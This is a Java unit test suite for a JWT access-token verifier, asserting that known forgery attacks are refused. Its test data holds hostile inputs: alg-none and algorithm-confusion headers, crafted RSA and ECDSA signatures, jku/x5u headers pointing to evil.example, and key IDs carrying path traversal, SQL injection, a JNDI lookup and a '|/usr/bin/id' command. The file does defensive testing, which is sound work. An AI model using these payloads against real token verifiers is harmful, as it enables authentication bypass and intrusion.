package dev.trivet.common.token;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.trivet.servers.KeyPairs;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.MessageDigest;
import java.security.PublicKey;
import java.security.interfaces.ECPublicKey;
import java.security.interfaces.RSAPrivateKey;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** What has been tried against readers of tokens elsewhere. */
class TokenAttacksTest {

    private static final Instant NOW = Instant.parse("2026-05-17T10:00:00Z");
    private static final KeyPair RSA = KeyPairs.rsa(2048);
    private static final KeyPair CURVE = KeyPairs.curve("secp256r1");
    private static final KeyPair SHORT = KeyPairs.rsa(1024);
    private static final KeyPair OTHER_CURVE = KeyPairs.curve("secp384r1");
    private static final KeyPair STRANGER = KeyPairs.rsa(2048);

    private static final String RS256 = TokenMaker.header("RS256", "rsa");
    private static final String ES256 = TokenMaker.header("ES256", "curve");
    private static final BigInteger ORDER =
            ((ECPublicKey) CURVE.getPublic()).getParams().getOrder();

    private static final Map<String, PublicKey> KEYS = Map.of(
            "rsa", RSA.getPublic(),
            "curve", CURVE.getPublic(),
            "short", SHORT.getPublic(),
            "p384", OTHER_CURVE.getPublic());

    private final String claims = TokenMaker.claims(NOW, all -> {});
    private final List<String> askedFor = new ArrayList<>();
    private final Map<String, PublicKey> keys = new HashMap<>(KEYS);
    private final AccessTokens tokens = new AccessTokens(this::find, "urn:trivet:site", "site", () -> NOW);

    private Optional<PublicKey> find(String keyId) {
        askedFor.add(keyId);
        return Optional.ofNullable(keys.get(keyId));
    }

    @Test
    void whatNobodyTamperedWithIsAccepted() throws InvalidToken {
        assertThat(tokens.verify(TokenMaker.token(RS256, claims, RSA)).user()).hasToString(TokenMaker.USER);
        assertThat(tokens.verify(TokenMaker.token(ES256, claims, CURVE)).user()).hasToString(TokenMaker.USER);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "none", "None", "NONE", "nOnE", "HS256", "HS512", "RS384", "RS512", "PS256", "ES384", "EdDSA", "rs256",
                ""
            })
    void aHeaderThatNamesAnotherAlgorithmIsRefusedHoweverItIsSigned(String algorithm) {
        String header = TokenMaker.header(algorithm, "rsa");
        String signed = TokenMaker.base64(header) + "." + TokenMaker.base64(claims);

        refuse(TokenMaker.token(header, claims, RSA));
        refuse(signed + ".");
        refuse(signed);
        refuse(signed + "." + TokenMaker.base64(sha512(signed, RSA)));
    }

    /** The public key is known to everybody: as a secret it would let everybody sign. */
    @Test
    void thePublicKeyIsNoSecret() {
        for (String id : List.of("rsa", "curve")) {
            byte[] der = KEYS.get(id).getEncoded();
            String pem = "-----BEGIN PUBLIC KEY-----\n"
                    + java.util.Base64.getMimeEncoder().encodeToString(der) + "\n-----END PUBLIC KEY-----\n";
            for (byte[] secret : List.of(der, pem.getBytes(StandardCharsets.US_ASCII))) {
                for (String algorithm : List.of("HS256", "RS256", "ES256")) {
                    String signed =
                            TokenMaker.base64(TokenMaker.header(algorithm, id)) + "." + TokenMaker.base64(claims);
                    refuse(signed + "." + TokenMaker.base64(hmac(secret, signed)));
                }
            }
        }
    }

    @Test
    void aKeySignsByItsOwnAlgorithmAlone() {
        refuse(TokenMaker.token(TokenMaker.header("ES256", "rsa"), claims, RSA));
        refuse(TokenMaker.token(TokenMaker.header("RS256", "curve"), claims, CURVE));
        refuse(TokenMaker.token(TokenMaker.header("RS256", "curve"), claims, RSA));
        refuse(TokenMaker.token(TokenMaker.header("ES256", "rsa"), claims, CURVE));
    }

    @Test
    void weakKeysAndOtherCurvesAreRefusedThoughTheyArePublished() {
        refuse(TokenMaker.token(TokenMaker.header("RS256", "short"), claims, SHORT));
        refuse(TokenMaker.token(TokenMaker.header("ES256", "p384"), claims, OTHER_CURVE));
    }

    /** Keys that a token brings along, and members that change what a signature means. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"jku\":\"https://evil.example/keys.json\"",
                "\"x5u\":\"https://evil.example/chain.pem\"",
                "\"x5c\":[\"MIIB\"]",
                "\"x5t\":\"AAAA\"",
                "\"jwk\":{\"kty\":\"RSA\",\"n\":\"AQAB\",\"e\":\"AQAB\"}",
                "\"crit\":[\"exp\"]",
                "\"crit\":[]",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"b64\":false",
                "\"zip\":\"DEF\"",
                "\"cty\":\"JWT\"",
                "\"alg\":\"RS256\"",
                "\"alg\":\"none\"",
                "\"kid\":\"rsa\"",
                "\"typ\":\"at+jwt\"",
                "\"\":\"\""
            })
    void aHeaderSaysNothingElseAndNothingTwice(String member) {
        String more = RS256.replace("}", "," + member + "}");
        String first = "{" + member + "," + RS256.substring(1);

        refuse(TokenMaker.token(more, claims, RSA));
        refuse(TokenMaker.token(first, claims, RSA));
        refuse(TokenMaker.token(more, claims, STRANGER));
        assertThat(askedFor).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"alg\":\"RS256\",\"typ\":\"at+jwt\"}",
                "{\"typ\":\"at+jwt\",\"kid\":\"rsa\"}",
                "{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":null}",
                "{\"alg\":[\"RS256\"],\"typ\":\"at+jwt\",\"kid\":\"rsa\"}",
                "{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"rsa\"",
                "{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"rsa\"}}",
                "{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"rsa\",}",
                "{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"\\u0072sa\"}",
                " {\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"rsa\"}",
                "{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"rsa\"}\n",
                "{'alg':'RS256','typ':'at+jwt','kid':'rsa'}",
                "\uFEFF{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"rsa\"}",
                "[]",
                "{}",
                "null",
                "\"RS256\""
            })
    void aHeaderIsWrittenInOneWay(String header) {
        refuse(TokenMaker.token(header, claims, RSA));
    }

    @ParameterizedTest
    @ValueSource(strings = {"JWT", "at+JWT", "AT+JWT", "application/at+jwt", "refresh+jwt", "at+jwt;v=1", "at+jwt "})
    void anotherTypeIsRefused(String type) {
        refuse(TokenMaker.token(RS256.replace("at+jwt", type), claims, RSA));
    }

    @Test
    void noTypeIsRefused() {
        refuse(TokenMaker.token("{\"alg\":\"RS256\",\"kid\":\"rsa\"}", claims, RSA));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../dev/null",
                "/etc/passwd",
                "x' UNION SELECT 'secret' --",
                "rsa\u0000",
                "rsa\u0000.pem",
                "rsa ",
                " rsa",
                "RSA",
                "http://evil.example/key",
                "${jndi:ldap://evil.example/a}",
                "rsa|/usr/bin/id",
                ""
            })
    void aKeyIdIsANameAndNothingElse(String keyId) {
        refuse(TokenMaker.token(TokenMaker.header("RS256", keyId), claims, RSA));
    }

    @Test
    void aVeryLongKeyIdIsNotEvenLookedUp() {
        refuse(TokenMaker.token(TokenMaker.header("RS256", "a".repeat(500)), claims, RSA));

        assertThat(askedFor).isEmpty();
    }

    /** Some JDKs took a signature of zeros for everybody's (CVE-2022-21449). */
    @Test
    void anEcdsaSignatureIsTwoNumbersInRange() {
        String signed = TokenMaker.base64(ES256) + "." + TokenMaker.base64(claims);
        byte[] good = TokenMaker.sign("SHA256withECDSAinP1363Format", signed, CURVE);
        byte[] zero = new byte[32];
        byte[] order = HexFormat.of().parseHex(ORDER.toString(16));
        byte[] r = Arrays.copyOf(good, 32);
        byte[] s = Arrays.copyOfRange(good, 32, 64);

        for (byte[][] numbers :
                new byte[][][] {{zero, zero}, {r, zero}, {zero, s}, {order, order}, {r, order}, {order, s}, {s, r}}) {
            refuse(signed + "." + TokenMaker.base64(concat(numbers[0], numbers[1])));
        }
        refuse(signed + "." + TokenMaker.base64(TokenMaker.sign("SHA256withECDSA", signed, CURVE)));
        refuse(signed + "." + TokenMaker.base64(concat(new byte[1], good)));
        refuse(signed + "." + TokenMaker.base64(concat(good, new byte[1])));
        refuse(signed + "." + TokenMaker.base64(r));
        assertThatCode(() -> tokens.verify(signed + "." + TokenMaker.base64(good)))
                .doesNotThrowAnyException();
    }

    /** PKCS #1 paddings that lenient readers let pass, made with the private key: the worst case. */
    @Test
    void anRsaSignatureHasOnePadding() throws GeneralSecurityException {
        String signed = TokenMaker.base64(RS256) + "." + TokenMaker.base64(claims);
        byte[] digest = MessageDigest.getInstance("SHA-256").digest(signed.getBytes(StandardCharsets.US_ASCII));
        String info = "3031300d060960864801650304020105000420" + HexFormat.of().formatHex(digest);
        String sha1 = "3021300906052b0e03021a05000414" + HexFormat.of().formatHex(digest, 0, 20);

        assertThatCode(() -> tokens.verify(signed + "." + raw("0001" + "ff".repeat(202) + "00" + info)))
                .doesNotThrowAnyException();
        refuse(signed + "." + raw("0001" + "ff".repeat(8) + "00" + info + "00".repeat(194)));
        refuse(signed + "." + raw("0001" + "ff".repeat(201) + "00" + info + "00"));
        refuse(signed + "." + raw("0002" + "ff".repeat(202) + "00" + info));
        refuse(signed + "." + raw("0000" + "ff".repeat(202) + "00" + info));
        refuse(signed + "." + raw("0001" + "ff".repeat(201) + "fe00" + info));
        refuse(signed + "." + raw("0001" + "ff".repeat(202) + "01" + info));
        refuse(signed + "." + raw("0001" + "ff".repeat(218) + "00" + sha1));
        refuse(signed + "."
                + raw("0001" + "ff".repeat(221) + "00" + HexFormat.of().formatHex(digest)));
        refuse(signed + "."
                + raw("0001" + "ff".repeat(200) + "00"
                        + info.replace("05000420", "050201000420").replace("3031300d", "3033300f")));
        refuse(signed + "." + TokenMaker.base64(new byte[256]));
        refuse(signed + "." + TokenMaker.base64(concat(new byte[1], TokenMaker.sign("SHA256withRSA", signed, RSA))));
        refuse(signed + "." + TokenMaker.base64(sha512(signed, RSA)));
    }

    @Test
    void aTokenIsWrittenInOneWay() {
        for (String good : List.of(TokenMaker.token(RS256, claims, RSA), TokenMaker.token(ES256, claims, CURVE))) {
            String[] parts = good.split("\\.");
            for (String other : List.of(
                    good + "=",
                    good + "==",
                    good + ".",
                    good + "..",
                    "." + good,
                    good + "." + parts[2],
                    " " + good,
                    good + " ",
                    good + "\n",
                    good.replaceFirst("\\.", ".."),
                    good.replaceFirst("\\.", " ."),
                    parts[0] + "." + parts[1],
                    parts[0] + ".." + parts[2],
                    "." + parts[1] + "." + parts[2],
                    parts[0] + "=." + parts[1] + "." + parts[2],
                    good.substring(0, good.length() - 1),
                    good + "A",
                    good.replace('-', '+').replace('_', '/') + "+",
                    good + "\u0000",
                    good + "é",
                    "\"" + good + "\"",
                    "{\"payload\":\"" + parts[1] + "\",\"protected\":\"" + parts[0] + "\",\"signature\":\"" + parts[2]
                            + "\"}")) {
                refuse(other);
            }
            // The last letter's unused bits: another text of the same bytes.
            char last = good.charAt(good.length() - 1);
            refuse(good.substring(0, good.length() - 1) + (char) (last + 1));
        }
    }

    @Test
    void everyChangedLetterIsNoticed() {
        var random = new Random(7);
        for (String good : List.of(TokenMaker.token(RS256, claims, RSA), TokenMaker.token(ES256, claims, CURVE))) {
            for (int i = 0; i < 300; i++) {
                var changed = new StringBuilder(good);
                int at = random.nextInt(good.length());
                char letter = (char) (33 + random.nextInt(94));
                if (letter != good.charAt(at)) {
                    changed.setCharAt(at, letter);
                    refuse(changed.toString());
                    refuse(good.substring(0, at));
                }
            }
        }
    }

    @Test
    void aTokenInsideATokenIsRefused() {
        String inner = TokenMaker.token(RS256, claims, RSA);

        refuse(TokenMaker.token(RS256, inner, RSA));
        refuse(TokenMaker.token(RS256, "\"" + inner + "\"", RSA));
    }

    @Test
    void whatIsSignedAndNoClaimsIsRefused() {
        for (String payload : List.of(
                "[]",
                "null",
                "1",
                "x",
                "{",
                "{\"iss\":1}",
                claims + "x",
                claims.replace("}", ",\"exp\":9999999999}"),
                claims.replace("\"site\"", "{\"a\":1}"),
                "[".repeat(3_000))) {
            refuse(TokenMaker.token(RS256, payload, RSA));
        }
    }

    @Test
    void aTokenThatIsTooLongIsRefusedUnread() {
        String padded = TokenMaker.claims(NOW, all -> all.put("more", "x".repeat(8_000)));

        refuse(TokenMaker.token(RS256, padded, RSA));
        assertThat(askedFor).isEmpty();
    }

    /** Reading throws nothing that costs a stack trace; InvalidToken has none. */
    @Test
    void aRefusalCarriesNoStackTrace() {
        assertThatThrownBy(() -> tokens.verify("garbage"))
                .isInstanceOf(InvalidToken.class)
                .satisfies(refusal -> assertThat(refusal.getStackTrace()).isEmpty())
                .hasNoCause();
    }

    @Test
    void aTokenThatIsRememberedIsRefusedOnceItsKeyIsWithdrawn() throws InvalidToken {
        String token = TokenMaker.token(RS256, claims, RSA);
        tokens.verify(token);

        keys.put("rsa", STRANGER.getPublic());
        refuse(token);
        keys.remove("rsa");
        refuse(token);
    }

    private void refuse(String token) {
        assertThatThrownBy(() -> tokens.verify(token)).as(token).isInstanceOf(InvalidToken.class);
    }

    /** The RSA private operation on a padded block as it stands. */
    private static String raw(String hex) {
        var key = (RSAPrivateKey) RSA.getPrivate();
        byte[] block = HexFormat.of().parseHex(hex);
        assertThat(block).hasSize(256);
        String signature = new BigInteger(1, block)
                .modPow(key.getPrivateExponent(), key.getModulus())
                .toString(16);
        return TokenMaker.base64(HexFormat.of().parseHex("0".repeat(512 - signature.length()) + signature));
    }

    private static byte[] sha512(String signed, KeyPair key) {
        return TokenMaker.sign("SHA512withRSA", signed, key);
    }

    private static byte[] hmac(byte[] secret, String signed) {
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            return mac.doFinal(signed.getBytes(StandardCharsets.US_ASCII));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] concat(byte[] one, byte[] other) {
        byte[] both = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }
}
